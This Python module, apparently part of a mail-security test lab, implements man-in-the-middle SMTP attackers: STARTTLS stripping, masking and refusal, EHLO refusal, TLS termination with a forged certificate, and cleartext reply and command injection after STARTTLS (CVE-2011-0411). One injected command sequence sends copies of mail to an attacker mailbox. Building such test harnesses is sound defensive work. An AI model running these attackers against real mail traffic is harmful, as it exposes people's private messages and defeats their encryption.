"""Attackers on the path: clients that connect to the MX host's address reach them, and they relay to the honest server.

Each relays the session turn by turn, so that the victim gets the honest server's own words, and changes what the
attack needs. `loot` is every octet that the attacker saw, encrypted ones as they are.
"""

import asyncio
import ssl
from abc import ABC, abstractmethod
from collections.abc import Callable
from dataclasses import dataclass

from letterlock.lab.issuing import accept_any_context
from letterlock.lab.raw_smtp import PeerClosed, Tell, Wire, connected, say_nothing

_STARTTLS = b"STARTTLS"
_MASKED = b"XXXXXXXX"  # as some firewalls write over it


def _never(_passed: bytearray) -> bool:
    return False


@dataclass(frozen=True, slots=True)
class RelayedSession:
    """Both ends of what the attacker relays."""

    victim: Wire
    honest: Wire


class OnPath(ABC):
    """An attacker on the path between the victim and the honest server at an address and port."""

    def __init__(self, address: str, port: int, tell: Tell = say_nothing) -> None:
        self._honest = (address, port)
        self._tell = tell
        self.loot = bytearray()

    def holds(self, secret: bytes) -> bool:
        """Whether the attacker read the secret."""
        return secret in self.loot

    async def talk(self, victim: Wire) -> None:
        """One session. Raises ConnectionError when either side goes away."""
        async with connected(*self._honest) as honest:
            session = RelayedSession(victim, honest)
            await victim.write(await honest.read_reply())
            while await self._turn(session) != b"QUIT":
                pass

    async def _turn(self, session: RelayedSession) -> bytes:
        """Relay one command and its reply; the command's verb."""
        line = await self._overhear(session.victim)
        verb = line.split(None, 1)[0].upper() if line.strip() else b""
        if verb == _STARTTLS:
            await self._starttls(session)
            return verb
        if refusal := self._refusal(verb):
            await session.victim.write(refusal)
            return verb
        await session.honest.write(line)
        reply = await session.honest.read_reply()
        await session.victim.write(self._edit_ehlo(reply) if verb == b"EHLO" else reply)
        if verb == b"DATA" and reply.startswith(b"354"):
            await self._content(session)
        return verb

    @abstractmethod
    async def _starttls(self, session: RelayedSession) -> None:
        """What becomes of the victim's STARTTLS."""

    def _edit_ehlo(self, reply: bytes) -> bytes:
        return reply

    def _refusal(self, _verb: bytes) -> bytes:
        """The attacker's own reply to a command, which the honest server then never gets; mostly none."""
        return b""

    async def _go_ahead(self, session: RelayedSession, *, behind: bytes = b"", injected: bytes = b"") -> None:
        """Pass STARTTLS and its 220 on, with what the attacker puts behind either."""
        await session.honest.write(b"STARTTLS\r\n" + injected)
        await session.victim.write(await session.honest.read_reply() + behind)

    async def _pass_through(self, session: RelayedSession) -> None:
        """Pass octets on, TLS that is not the attacker's own, until a side ends. Raises PeerClosed."""
        upstream = asyncio.create_task(self._pump(session.victim, session.honest, self._finished))
        downstream = asyncio.create_task(self._pump(session.honest, session.victim))
        try:
            await asyncio.wait({upstream, downstream}, return_when=asyncio.FIRST_COMPLETED)
        finally:
            upstream.cancel()
            downstream.cancel()
            await asyncio.gather(upstream, downstream, return_exceptions=True)
        raise PeerClosed("passed on until one side ended")

    def _finished(self, _from_victim: bytes | bytearray) -> bool:
        """Whether the attacker has passed on enough, by what came from the victim since STARTTLS."""
        return False

    async def _pump(self, source: Wire, target: Wire, finished: Callable[[bytearray], bool] = _never) -> None:
        """Pass octets on until the source ends, or enough has come. Raises PeerClosed."""
        passed = bytearray()
        while not finished(passed):
            data = await source.read_some()
            passed += data
            self.loot += data
            await target.write(data)

    async def _overhear(self, victim: Wire) -> bytes:
        line = await victim.read_line()
        self.loot += line
        return line

    async def _content(self, session: RelayedSession) -> None:
        line = b""
        while line != b".\r\n":
            line = await self._overhear(session.victim)
            await session.honest.write(line)
        how = "inside the attacker's own TLS" if session.victim.encrypted else "in cleartext"
        self._tell(f"attacker on the path: read a message, {how}")
        await session.victim.write(await session.honest.read_reply())


class Relayer(OnPath):
    """Changes nothing: what somebody sees who only looks on."""

    async def _starttls(self, session: RelayedSession) -> None:
        await self._go_ahead(session)
        await self._pass_through(session)


class Stripper(OnPath):
    """Removes STARTTLS from the reply to EHLO (RFC 3207 section 6)."""

    def _edit_ehlo(self, reply: bytes) -> bytes:
        self._tell("attacker on the path: removes STARTTLS from the reply to EHLO")
        lines = [line[4:] for line in reply.splitlines(keepends=True) if line[4:].strip().upper() != _STARTTLS]
        return b"".join(b"250-" + line for line in lines[:-1]) + b"250 " + lines[-1]

    async def _starttls(self, session: RelayedSession) -> None:
        await session.victim.write(b"502 5.5.1 Command not implemented\r\n")


class Masker(Stripper):
    """Writes over STARTTLS in the reply to EHLO, and refuses it."""

    def _edit_ehlo(self, reply: bytes) -> bytes:
        self._tell("attacker on the path: overwrites STARTTLS in the reply to EHLO")
        return reply.replace(_STARTTLS, _MASKED)


class HelloRefuser(Stripper):
    """Refuses EHLO, so that the client says HELO, to which no extension is offered (RFC 5321 section 3.2)."""

    def _refusal(self, verb: bytes) -> bytes:
        if verb != b"EHLO":
            return b""
        self._tell("attacker on the path: refuses EHLO")
        return b"502 5.5.1 Command not implemented\r\n"


class Refuser(OnPath):
    """Lets STARTTLS be offered, and refuses the command (RFC 3207 section 4)."""

    LATER = b"454 4.7.0 TLS not available due to temporary reason\r\n"
    NEVER = b"502 5.5.1 Command not implemented\r\n"

    def __init__(self, address: str, port: int, tell: Tell = say_nothing, *, reply: bytes = LATER) -> None:
        super().__init__(address, port, tell)
        self._reply = reply

    async def _starttls(self, session: RelayedSession) -> None:
        self._tell("attacker on the path: refuses STARTTLS")
        await session.victim.write(self._reply)


class Impostor(OnPath):
    """Terminates TLS with its own certificate and speaks TLS to the honest server, so that neither side notices."""

    def __init__(self, address: str, port: int, context: ssl.SSLContext, tell: Tell = say_nothing) -> None:
        super().__init__(address, port, tell)
        self._context = context

    async def _starttls(self, session: RelayedSession) -> None:
        await self._go_ahead(session)
        self._tell("attacker on the path: terminates TLS with another certificate")
        await session.honest.start_tls(accept_any_context(), server=False)
        await session.victim.start_tls(self._context, server=True)
        if session.victim.resumed:
            self._tell("attacker on the path: the client resumed its TLS session, and saw no certificate")


class Injector(OnPath):
    """Sends a reply to EHLO in cleartext right behind `220`, then passes on TLS between victim and honest server.

    A victim that keeps the injected octets takes them for the honest server's words inside TLS (CVE-2011-0411 and its
    kin of 2021).
    """

    INJECTED = b"250-mx ESMTP\r\n250-PIPELINING\r\n250-XINJECTED\r\n250 8BITMIME\r\n"

    async def _starttls(self, session: RelayedSession) -> None:
        await self._go_ahead(session, behind=self.INJECTED)
        self._tell("attacker on the path: injected replies in cleartext behind 220")
        await self._pass_through(session)


class CommandInjector(OnPath):
    """Sends commands in cleartext right behind STARTTLS, then passes on TLS (CVE-2011-0411).

    A server that keeps them takes them for the victim's words inside TLS, and sends the attacker a copy.
    """

    INJECTED = b"EHLO injected.test\r\nMAIL FROM:<mallory@mallory.example>\r\nRCPT TO:<mallory@mallory.example>\r\n"

    async def _starttls(self, session: RelayedSession) -> None:
        await self._go_ahead(session, injected=self.INJECTED)
        self._tell("attacker on the path: injected commands in cleartext behind STARTTLS")
        await self._pass_through(session)
